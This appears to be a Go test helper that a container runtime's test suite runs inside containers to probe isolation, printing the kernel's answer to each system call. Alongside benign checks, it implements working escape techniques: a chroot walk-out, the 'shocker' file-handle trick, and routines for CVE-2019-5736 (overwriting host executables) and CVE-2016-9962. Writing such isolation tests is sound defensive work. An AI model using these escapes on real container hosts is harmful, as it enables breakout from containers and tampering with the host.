// Command probe runs in containers of the tests to try and report what busybox cannot: each word is
// one system call or trick, and the kernel's result is printed on standard output, an errno by name.
package main

import (
	"errors"
	"fmt"
	"os"
	"os/signal"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

func main() {
	runtime.LockOSThread()
	if len(os.Args) < 2 {
		fatal("which word?")
	}
	args := os.Args[2:]
	if without, ok := plainWords[os.Args[1]]; ok {
		without()
		return
	}
	switch os.Args[1] {
	case "environ":
		answer(os.WriteFile(args[0], []byte(strings.Join(os.Environ(), "\n")+"\n"), 0o644))
	case "walkout":
		walkout(args[0])
	case "key":
		key(args[0])
	case "ptrace":
		answer(unix.PtraceAttach(number(args[0])))
	case "mknod":
		answer(unix.Mknod(args[0], unix.S_IFCHR|0o666, int(unix.Mkdev(uint32(number(args[1])), uint32(number(args[2]))))))
	case "open", "openro":
		open(args[0], map[string]int{"open": unix.O_RDWR, "openro": unix.O_RDONLY}[os.Args[1]])
	case "write":
		write(args[0], args[1])
	case "mount":
		answer(unix.Mount(args[0], args[1], args[2], 0, args[3]))
	case "remount-rw":
		answer(unix.Mount("", args[0], "", unix.MS_REMOUNT|unix.MS_BIND, ""))
	case "umount":
		answer(unix.Unmount(args[0], unix.MNT_DETACH))
	case "mkdir":
		answer(unix.Mkdir(args[0], 0o755))
	case "hold":
		hold(args[0])
	case "notify":
		sendNotify(args)
	default:
		attack(os.Args[1], args)
	}
}

// attack runs the words that are attacks on other processes or the host.
func attack(word string, args []string) {
	switch word {
	case "overwrite":
		overwrite(args[0], args[1:])
	case "spy":
		spy(args[0])
	case "seize":
		seize(args[0], len(args) > 1)
	case "metadata":
		metadata(args)
	case "handle":
		handle(args[0], args[1])
	default:
		kernelSurface(word)
	}
}

// plainWords lists the words without arguments.
var plainWords = map[string]func(){
	"clocks": clocks, "sched": sched, "session": session, "spoil": spoil, "sigmask": sigmask, "personality": personality,
}

func personality() {
	p, _, _ := unix.Syscall(unix.SYS_PERSONALITY, 0xffffffff, 0, 0)
	fmt.Printf("%#x\n", p)
}

func fatal(text string) {
	fmt.Fprintln(os.Stderr, "probe:", text)
	os.Exit(2)
}

func answer(err error) {
	fmt.Println(name(err))
}

// spoil tries to change the owner and mode of the standard descriptors.
func spoil() {
	for fd := range 3 {
		_ = unix.Fchmod(fd, 0o600)
		_ = unix.Fchown(fd, 5, 5)
	}
}

func number(s string) int {
	n, err := strconv.Atoi(s)
	if err != nil {
		fatal(err.Error())
	}
	return n
}

func clocks() {
	for _, id := range [2]int32{unix.CLOCK_MONOTONIC, unix.CLOCK_BOOTTIME} {
		var ts unix.Timespec
		if err := unix.ClockGettime(id, &ts); err != nil {
			fatal(err.Error())
		}
		fmt.Println(ts.Sec)
	}
}

// sched prints policy, nice, priority, I/O class and priority, and memory
// policy of this thread.
func sched() {
	attr, err := unix.SchedGetAttr(0, 0)
	if err != nil {
		fatal(err.Error())
	}
	io, _, _ := unix.Syscall(unix.SYS_IOPRIO_GET, 1, 0, 0)
	var mode int32
	mask := make([]uint64, 16)
	if _, _, e := unix.Syscall6(unix.SYS_GET_MEMPOLICY, uintptr(unsafe.Pointer(&mode)), uintptr(unsafe.Pointer(&mask[0])), 1024, 0, 0, 0); e != 0 {
		mode = -int32(e)
	}
	fmt.Printf("policy=%d nice=%d priority=%d ioclass=%d ioprio=%d mempolicy=%d nodes=%d\n",
		attr.Policy, attr.Nice, attr.Priority, io>>13, io&0x1fff, mode, mask[0])
}

// walkout is the classic escape from a chroot: keep a directory above it open, chroot to a directory
// below, walk up. It prints the contents of a file of the host at path.
func walkout(path string) {
	_ = unix.Mkdir("/tmp/jail", 0o755)
	top, err := unix.Open("/", unix.O_RDONLY|unix.O_DIRECTORY, 0)
	if err != nil {
		fatal(err.Error())
	}
	if err := unix.Chroot("/tmp/jail"); err != nil {
		answer(err)
		return
	}
	if err := unix.Fchdir(top); err != nil {
		fatal(err.Error())
	}
	for range 64 {
		_ = unix.Chdir("..")
	}
	if err := unix.Chroot("."); err != nil {
		fatal(err.Error())
	}
	text, err := os.ReadFile(path)
	if err != nil {
		fmt.Println("inside")
		return
	}
	fmt.Printf("outside: %s\n", text)
}

// key looks for a key of type user in the session keyring.
func key(name string) {
	_, err := unix.KeyctlSearch(unix.KEY_SPEC_SESSION_KEYRING, "user", name, 0)
	answer(err)
}

func session() {
	text, err := unix.KeyctlString(unix.KEYCTL_DESCRIBE, unix.KEY_SPEC_SESSION_KEYRING)
	if err != nil {
		answer(err)
		return
	}
	fmt.Println(text)
}

func open(path string, flags int) {
	fd, err := unix.Open(path, flags|unix.O_NONBLOCK|unix.O_NOCTTY|unix.O_CLOEXEC, 0)
	if err == nil {
		unix.Close(fd)
	}
	answer(err)
}

func write(path, text string) {
	fd, err := unix.Open(path, unix.O_WRONLY, 0)
	if err == nil {
		_, err = unix.Write(fd, []byte(text))
	}
	answer(err)
}

// sigmask prints the signals that were blocked or ignored when this process started.
func sigmask() {
	data, err := os.ReadFile("/proc/thread-self/status")
	if err != nil {
		fatal(err.Error())
	}
	for _, line := range strings.Split(string(data), "\n") {
		if strings.HasPrefix(line, "SigBlk") || strings.HasPrefix(line, "SigIgn") {
			fmt.Println(line)
		}
	}
}

// hold prints "ready" and each signal that arrives, and exits after SIGTERM.
func hold(status string) {
	c := make(chan os.Signal, 16)
	signal.Notify(c, unix.SIGTERM, unix.SIGINT, unix.SIGUSR1, unix.SIGUSR2, unix.SIGHUP, unix.SIGWINCH, unix.SIGQUIT, unix.SIGCONT)
	fmt.Println("ready")
	for s := range c {
		fmt.Println(unix.SignalName(s.(syscall.Signal)))
		if s == unix.SIGTERM {
			os.Exit(number(status))
		}
	}
}

// handle opens a file through a file handle that was not obtained here (the trick of "shocker"): the
// inode of the root directory of an ext4 file system is 2.
func handle(mount, inode string) {
	dir, err := unix.Open(mount, unix.O_RDONLY, 0)
	if err != nil {
		fatal(err.Error())
	}
	h := unix.NewFileHandle(1, []byte{byte(number(inode)), 0, 0, 0, 0, 0, 0, 0})
	fd, err := unix.OpenByHandleAt(dir, h, unix.O_RDONLY)
	if err == nil {
		unix.Close(fd)
	}
	answer(err)
}

func name(err error) string {
	if err == nil {
		return "OK"
	}
	var errno syscall.Errno
	if errors.As(err, &errno) {
		return unix.ErrnoName(errno)
	}
	return err.Error()
}

// forOthers calls f for every other visible process, repeatedly, for the given number of
// seconds, and afterScan after each pass over /proc.
func forOthers(seconds string, f func(pid string), afterScan func()) {
	fmt.Println("ready")
	end := time.Now().Add(time.Duration(number(seconds)) * time.Second)
	self := strconv.Itoa(os.Getpid())
	for time.Now().Before(end) {
		entries, _ := os.ReadDir("/proc")
		for _, e := range entries {
			if _, err := strconv.Atoi(e.Name()); err == nil && e.Name() != self {
				f(e.Name())
			}
		}
		afterScan()
	}
}

// overwrite is CVE-2019-5736: it opens the executable of each process that becomes visible, and
// writes to it as soon as it no longer runs. It writes only to the victims, by their exact names as
// this mount namespace shows them: any other visible program may be one that the host needs, and is
// not changed (a helper such as nsenter is itself visible until it executes its program).
func overwrite(seconds string, victims []string) {
	kept := map[string]int{}
	said := map[string]bool{}
	say := func(text string) {
		if !said[text] {
			said[text] = true
			fmt.Println(text)
		}
	}
	forOthers(seconds, func(pid string) {
		// The name is read from the open file, so that it is the file that is written to.
		fd, err := unix.Open("/proc/"+pid+"/exe", unix.O_RDONLY|unix.O_CLOEXEC, 0)
		if err == nil {
			link, err := os.Readlink("/proc/self/fd/" + strconv.Itoa(fd))
			_, have := kept[link]
			if err == nil && !have && slices.Contains(victims, link) {
				kept[link] = fd
				say("opened " + link)
			} else {
				unix.Close(fd)
			}
		}
	}, func() { // also when the victim was the last other process
		for link, fd := range kept {
			w, err := unix.Open("/proc/self/fd/"+strconv.Itoa(fd), unix.O_WRONLY|unix.O_CLOEXEC, 0)
			if err != nil {
				continue // ETXTBSY while it runs
			}
			if _, err := unix.Write(w, []byte("overwritten")); err == nil {
				say("overwrote " + link)
			}
			unix.Close(w)
		}
	})
}

// spy is CVE-2016-9962: it examines a process that enters the container before the process has
// dropped its resources of the host.
func spy(seconds string) {
	said := map[string]bool{}
	say := func(text string) {
		if !said[text] {
			said[text] = true
			fmt.Println(text)
		}
	}
	onItsWay := func(pid string) bool {
		name, _ := os.ReadFile("/proc/" + pid + "/comm")
		// Before the process has set its name, it is the number of a descriptor.
		return strings.HasPrefix(string(name), "minirun") || strings.HasPrefix(string(name), "1")
	}
	// A process may be examined after its execve: a result counts only if the process is still in its
	// set-up after the check.
	got := func(pid, what string) {
		if onItsWay(pid) {
			say(what)
		}
	}
	forOthers(seconds, func(pid string) {
		if !onItsWay(pid) {
			return
		}
		say("seen")
		if fd, err := unix.Open("/proc/"+pid+"/root", unix.O_PATH, 0); err == nil {
			got(pid, "its root")
			unix.Close(fd)
		}
		for fd := range 10 { // root may only list their numbers
			if _, err := os.Readlink("/proc/" + pid + "/fd/" + strconv.Itoa(fd)); err == nil {
				got(pid, "its descriptors")
			}
		}
		if fd, err := unix.Open("/proc/"+pid+"/mem", unix.O_RDONLY, 0); err == nil {
			got(pid, "its memory")
			unix.Close(fd)
		}
		n := number(pid)
		if unix.PtraceAttach(n) == nil {
			_, _ = unix.Wait4(n, nil, unix.WALL, nil)
			got(pid, "traced")
			_ = unix.PtraceDetach(n)
		}
	}, func() {})
}
